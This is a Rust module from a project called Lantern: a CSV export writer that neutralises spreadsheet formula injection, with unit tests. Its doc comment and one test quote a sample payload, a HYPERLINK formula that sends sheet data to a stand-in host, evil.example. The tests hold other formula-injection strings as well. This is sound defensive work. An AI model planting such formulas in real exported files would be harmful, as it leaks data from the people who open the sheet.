//! The one CSV writer behind every download Lantern offers (survey responses and comments,
//! stop tables and analyses), so that no file can carry a spreadsheet formula.
//!
//! A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
//! LibreOffice and Google Sheets as a formula: a resident's answer
//! `=HYPERLINK("http://evil.example/?x="&A1,"x")` would become a live link that sends the
//! sheet's data away. As OWASP recommends, such a text cell gets a leading apostrophe (which
//! spreadsheets show as text and do not evaluate) and is quoted, so that no separator inside
//! it can split it into a second, unprotected cell.
//!
//! Numbers are another matter: a negative ratio Lantern computed must stay a number. So the
//! writer has two kinds of field. [`CsvOut::number`] and [`CsvOut::int`] write numbers as
//! they are (they come from Rust numbers, never from text); [`CsvOut::text`] writes anything
//! else and neutralises it, except text that is exactly a plain decimal number (a choice code
//! `-1`, a day `-0.5`), which spreadsheets read as that number and never as a formula. There is
//! no other way to write a field.

use std::borrow::Cow;
use std::io::Write;

/// A CSV writer whose every field is either a number or neutralised text. Records end with
/// CRLF (RFC 4180).
pub struct CsvOut<W: Write> {
    w: csv::Writer<W>,
}

fn builder() -> csv::WriterBuilder {
    let mut b = csv::WriterBuilder::new();
    b.terminator(csv::Terminator::CRLF)
        // The writer quotes any field holding its "comment" character: with the apostrophe
        // as that character, every neutralised cell is quoted.
        .comment(Some(b'\''));
    b
}

impl CsvOut<Vec<u8>> {
    /// A writer into memory; [`CsvOut::take`] hands out what is written so far.
    pub fn buffer() -> CsvOut<Vec<u8>> {
        CsvOut::new(Vec::with_capacity(1 << 16))
    }

    /// The bytes written since the last call (whole records only, if called between them).
    pub fn take(&mut self) -> csv::Result<Vec<u8>> {
        let full = std::mem::replace(
            &mut self.w,
            builder().from_writer(Vec::with_capacity(1 << 16)),
        );
        full.into_inner().map_err(|e| e.into_error().into())
    }
}

impl<W: Write> CsvOut<W> {
    pub fn new(w: W) -> CsvOut<W> {
        CsvOut {
            w: builder().from_writer(w),
        }
    }

    /// A text field, neutralised if a spreadsheet would take it for a formula.
    pub fn text(&mut self, s: &str) -> csv::Result<()> {
        self.w.write_field(neutralise(s).as_bytes())
    }

    /// A number, written as Rust formats it (shortest exact form).
    pub fn number(&mut self, x: f64) -> csv::Result<()> {
        self.w.write_field(format!("{x}"))
    }

    pub fn int(&mut self, n: i64) -> csv::Result<()> {
        self.w.write_field(itoa::Buffer::new().format(n))
    }

    /// An empty field (a missing value).
    pub fn empty(&mut self) -> csv::Result<()> {
        self.w.write_field("")
    }

    pub fn opt_number(&mut self, x: Option<f64>) -> csv::Result<()> {
        match x {
            Some(x) => self.number(x),
            None => self.empty(),
        }
    }

    pub fn opt_int(&mut self, n: Option<i64>) -> csv::Result<()> {
        match n {
            Some(n) => self.int(n),
            None => self.empty(),
        }
    }

    /// Ends the record.
    pub fn end(&mut self) -> csv::Result<()> {
        self.w.write_record(None::<&[u8]>)
    }

    /// A whole record of text fields (a header, say).
    pub fn texts<'a>(&mut self, fields: impl IntoIterator<Item = &'a str>) -> csv::Result<()> {
        for f in fields {
            self.text(f)?;
        }
        self.end()
    }

    pub fn into_inner(self) -> csv::Result<W> {
        self.w.into_inner().map_err(|e| e.into_error().into())
    }
}

/// A download that fails while it is written is an internal error.
impl From<csv::Error> for crate::platform::error::AppError {
    fn from(e: csv::Error) -> Self {
        crate::platform::error::AppError::Internal(e.into())
    }
}

/// The text as a spreadsheet may safely read it: with a leading apostrophe when it starts
/// with a character that begins a formula (`=`, `+`, `-`, `@`, tab, carriage return),
/// unless it is exactly a plain decimal number.
pub fn neutralise(s: &str) -> Cow<'_, str> {
    match s.as_bytes().first() {
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r') if !plain_number(s) => {
            Cow::Owned(format!("'{s}"))
        }
        _ => Cow::Borrowed(s),
    }
}

/// `-12`, `-0.25`, `3.5e-7`: an optional minus, digits, an optional fraction and exponent.
fn plain_number(s: &str) -> bool {
    let b = s.strip_prefix('-').unwrap_or(s).as_bytes();
    let mut i = 0;
    let digits = |i: &mut usize| {
        let start = *i;
        while *i < b.len() && b[*i].is_ascii_digit() {
            *i += 1;
        }
        *i > start
    };
    if !digits(&mut i) {
        return false;
    }
    if i < b.len() && b[i] == b'.' {
        i += 1;
        if !digits(&mut i) {
            return false;
        }
    }
    if i < b.len() && (b[i] == b'e' || b[i] == b'E') {
        i += 1;
        if i < b.len() && (b[i] == b'-' || b[i] == b'+') {
            i += 1;
        }
        if !digits(&mut i) {
            return false;
        }
    }
    i == b.len()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(f: impl FnOnce(&mut CsvOut<Vec<u8>>)) -> String {
        let mut w = CsvOut::buffer();
        f(&mut w);
        w.end().unwrap();
        String::from_utf8(w.into_inner().unwrap()).unwrap()
    }

    #[test]
    fn formulas_are_neutralised_and_quoted() {
        for (input, want) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\"",
            ),
            ("+1+1", "\"'+1+1\""),
            ("-2+3", "\"'-2+3\""),
            ("@SUM(A1)", "\"'@SUM(A1)\""),
            ("\t=1", "\"'\t=1\""),
            ("\r=1", "\"'\r=1\""),
            ("=1;=2", "\"'=1;=2\""),
            ("-", "\"'-\""),
            ("-inf", "\"'-inf\""),
        ] {
            assert_eq!(
                line(|w| w.text(input).unwrap()),
                format!("{want}\r\n"),
                "{input:?}"
            );
        }
    }

    #[test]
    fn plain_text_and_numbers_stay_as_they_are() {
        let out = line(|w| {
            w.text("patrol").unwrap();
            w.text("-1").unwrap();
            w.text("-0.25").unwrap();
            w.text("2026-06-02").unwrap();
            w.number(-0.2).unwrap();
            w.int(-7).unwrap();
            w.opt_number(None).unwrap();
            w.text("a, b").unwrap();
        });
        assert_eq!(out, "patrol,-1,-0.25,2026-06-02,-0.2,-7,,\"a, b\"\r\n");
        // What a CSV reader reads back is the neutralised text.
        let neutralised = line(|w| w.text("=1+2").unwrap());
        let mut r = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(neutralised.as_bytes());
        assert_eq!(&r.records().next().unwrap().unwrap()[0], "'=1+2");
    }

    #[test]
    fn plain_numbers_are_recognised() {
        for yes in ["0", "-1", "12.5", "-0.25", "3e5", "-1.5E-7"] {
            assert!(plain_number(yes), "{yes}");
        }
        for no in [
            "", "-", "1.", ".5", "1e", "1+2", "-1-1", "--1", "1,5", "- 1", "NaN",
        ] {
            assert!(!plain_number(no), "{no}");
        }
    }
}
